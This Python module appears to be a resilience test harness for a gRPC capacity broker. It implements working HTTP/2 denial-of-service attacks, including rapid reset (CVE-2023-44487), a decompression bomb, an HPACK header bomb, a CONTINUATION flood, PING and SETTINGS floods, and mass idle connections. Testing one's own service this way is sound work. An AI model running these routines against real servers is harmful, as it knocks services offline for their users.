"""What a stranger can do to a broker before anybody knows who it is. Each attack is a context of (target, tls, n): it sends
until all of it was sent, or the broker closes the connection or reads no more; gives how much that was and its connection,
and holds what it took until it is left. attack_test.py plays each in short, `tests/attack` in full."""

import contextlib
import gzip
import resource
import socket
import ssl
import struct

from http2 import (CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, RST_STREAM, SETTINGS, Connection, Gone,
                   frame, header, integer, message, request_headers)

CHECK = "/grpc.health.v1.Health/Check"
WATCH = "/grpc.health.v1.Health/Watch"
REFLECT = "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo"
CREATE = "/capbroker.v1.CapacityRequestService/CreateCapacityRequest"
WHO = "/capbroker.v1.CallerService/GetCaller"
AT_ONCE = 500  # Streams in one write.


def client_tls():
    """Of an attacker, who does not care whose certificate it is shown."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    return context


def headers_of(path, *more, tls=None):
    return request_headers(path, *more, scheme="https" if tls else "http")


def send_in_parts(connection, frames_of, n):
    """Sends frames_of(stream) for n streams; how many before the broker closed the connection."""
    sent = 0
    with contextlib.suppress(Gone, OSError):
        while sent < n:
            part = min(AT_ONCE, n - sent)
            connection.send(b"".join(frames_of(connection.next_stream()) for _ in range(part)))
            sent += part
    return sent


@contextlib.contextmanager
def open_streams(target, tls, n, path, body=None, acknowledge=False):
    """n streams of one connection, each held open; the broker's SETTINGS are not acknowledged."""
    with Connection(target, tls) as connection:
        connection.greet()
        if acknowledge:
            connection.receive()
            connection.send(frame(SETTINGS, 1))
        connection.socket.settimeout(10)
        block = headers_of(path, tls=tls)
        data = None if body is None else message(body)

        def frames(stream):
            opening = frame(HEADERS, END_HEADERS, stream, block)
            return opening if data is None else opening + frame(DATA, 0, stream, data)

        yield send_in_parts(connection, frames, n), connection


def unary_streams(target, tls, n):
    """Calls that never send their message."""
    return open_streams(target, tls, n, CREATE)


def health_watches(target, tls, n):
    return open_streams(target, tls, n, WATCH, b"")


def reflection_streams(target, tls, n):
    return open_streams(target, tls, n, REFLECT)


@contextlib.contextmanager
def many_connections(target, tls, n):
    """As many streams that wait as one stranger may have, on each of n connections of one address."""
    with contextlib.ExitStack() as stack:
        held = []
        for _ in range(n):
            with contextlib.suppress(Gone, OSError):
                held.append(stack.enter_context(unary_streams(target, tls, 256)))
        yield sum(sent for sent, _ in held), None


@contextlib.contextmanager
def rapid_resets(target, tls, n):
    """CVE-2023-44487: n calls, each reset at once."""
    with Connection(target, tls) as connection:
        connection.greet()
        connection.socket.settimeout(10)
        block = headers_of(WHO, tls=tls)
        data, reset = message(), struct.pack(">I", 8)

        def frames(stream):
            return (frame(HEADERS, END_HEADERS, stream, block) + frame(DATA, END_STREAM, stream, data) +
                    frame(RST_STREAM, 0, stream, reset))

        yield send_in_parts(connection, frames, n), connection


@contextlib.contextmanager
def inflation(target, tls, n):
    """n bytes, compressed a thousandfold, as one message."""
    body = gzip.compress(bytes(n * 1000), 9)
    with Connection(target, tls) as connection:
        connection.greet()
        stream = connection.next_stream()
        connection.send(frame(HEADERS, END_HEADERS, stream, headers_of(CREATE, ("grpc-encoding", "gzip"), tls=tls)))
        whole = message(body, compressed=True)
        with contextlib.suppress(Gone, OSError):
            for at in range(0, len(whole), 16384):
                part = whole[at:at + 16384]
                connection.send(frame(DATA, END_STREAM if at + 16384 >= len(whole) else 0, stream, part))
        with contextlib.suppress(Gone, OSError):
            connection.answer(stream)
        yield len(whole), connection


@contextlib.contextmanager
def half_messages(target, tls, n):
    """n calls, each with all of a message of a mebibyte but its last byte."""
    with Connection(target, tls) as connection:
        connection.greet((4, (1 << 31) - 1))
        connection.socket.settimeout(5)
        block = headers_of(CREATE, tls=tls)
        streams = [connection.next_stream() for _ in range(n)]
        sent = 0
        with contextlib.suppress(Gone, OSError, TimeoutError):
            for stream in streams:
                connection.send(frame(HEADERS, END_HEADERS, stream, block))
            # Flow control lets through what it lets through.
            windows, whole = dict.fromkeys(streams, 65535), 65535
            left = dict.fromkeys(streams, (1 << 20) - 6)
            started = set()
            while any(left.values()):
                for stream in streams:
                    size = min(16384, windows[stream], whole, left[stream])
                    if size <= 5:
                        continue
                    body = bytes(size)
                    if stream not in started:
                        started.add(stream)
                        body = struct.pack(">BI", 0, (1 << 20) - 1) + bytes(size - 5)
                    connection.send(frame(DATA, 0, stream, body))
                    sent += size
                    whole -= size
                    windows[stream] -= size
                    left[stream] -= size
                while whole <= 5 or not any(min(windows[s], left[s]) > 5 for s in streams):
                    kind, _, of, payload = connection.receive()
                    if kind == 8:
                        more = struct.unpack(">I", payload)[0]
                        if of:
                            windows[of] = windows.get(of, 0) + more
                        else:
                            whole += more
                    elif kind == SETTINGS:
                        for at in range(0, len(payload), 6):
                            name, value = struct.unpack(">HI", payload[at:at + 6])
                            if name == 4:
                                windows = {s: w + value - 65535 for s, w in windows.items()}
        yield sent, connection


@contextlib.contextmanager
def header_bomb(target, tls, n):
    """n calls whose headers refer a thousand times to one entry of four kilobytes in the table."""
    with Connection(target, tls) as connection:
        connection.greet()
        connection.socket.settimeout(10)
        bomb = header("x-bomb", "x" * 3900, index=True)
        first = frame(HEADERS, END_HEADERS, connection.next_stream(), headers_of(CREATE, tls=tls) + bomb)
        again = headers_of(CREATE, tls=tls) + integer(62, 7, 128) * 1000
        with contextlib.suppress(Gone, OSError):
            connection.send(first)
        yield send_in_parts(connection, lambda stream: frame(HEADERS, END_HEADERS, stream, again), n), connection


@contextlib.contextmanager
def continuations(target, tls, n):
    """One header block that does not end: n frames of 16 kB."""
    with Connection(target, tls) as connection:
        connection.greet()
        connection.socket.settimeout(10)
        stream, sent = connection.next_stream(), 0
        piece = b"".join(header("x-filler", "x" * 1000) for _ in range(16))
        with contextlib.suppress(Gone, OSError):
            connection.send(frame(HEADERS, 0, stream, headers_of(CREATE, tls=tls)))
            for sent in range(n):
                connection.send(frame(CONTINUATION, 0, stream, piece))
        yield sent, connection


@contextlib.contextmanager
def pings(target, tls, n):
    """n PINGs, and as many SETTINGS: each wants an acknowledgement, which nobody reads."""
    with Connection(target, tls) as connection:
        connection.greet()
        connection.socket.settimeout(10)
        block = (frame(PING, payload=bytes(8)) + frame(SETTINGS)) * AT_ONCE
        sent = 0
        with contextlib.suppress(Gone, OSError):
            while sent < n:
                connection.send(block)
                sent += AT_ONCE
        yield sent, connection


@contextlib.contextmanager
def connections(target, tls, n, say=b""):
    """n connections that say nothing, or no more than `say`."""
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, max(soft, n + 100)), hard))
    host, port = target.rsplit(":", 1)
    held = []
    try:
        for _ in range(n):
            with contextlib.suppress(OSError):
                held.append(socket.create_connection((host, int(port)), 5))
                held[-1].sendall(say)
        yield len(held), None
    finally:
        for each in held:
            each.close()


@contextlib.contextmanager
def refused_calls(target, tls, n):
    """n calls of nobody, one after the other, for what they write into the log."""
    with Connection(target, tls) as connection:
        done = 0
        with contextlib.suppress(Gone, OSError):
            for done in range(n):
                connection.call(WHO)
        yield done, connection


# Name: (attack, n in short, n in full, whether the broker ends the connection: else it refuses call after call, or throttles).
ATTACKS = {
    "a compressed message": (inflation, 100_000, 1_000_000, False),
    "streams that wait, SETTINGS not acknowledged": (unary_streams, 5_000, 50_000, True),
    "health watches": (health_watches, 5_000, 60_000, False),
    "reflection streams": (reflection_streams, 5_000, 60_000, False),
    "streams that wait, on many connections": (many_connections, 40, 100, False),
    "rapid resets": (rapid_resets, 10_000, 100_000, True),
    "halves of messages": (half_messages, 200, 1_000, True),
    "headers by reference": (header_bomb, 50, 500, False),
    "headers without end": (continuations, 200, 20_000, True),
    "pings and settings": (pings, 20_000, 2_000_000, True),
    "silent connections": (connections, 360, 3_000, False),
    "refused calls": (refused_calls, 1_000, 50_000, False),
}
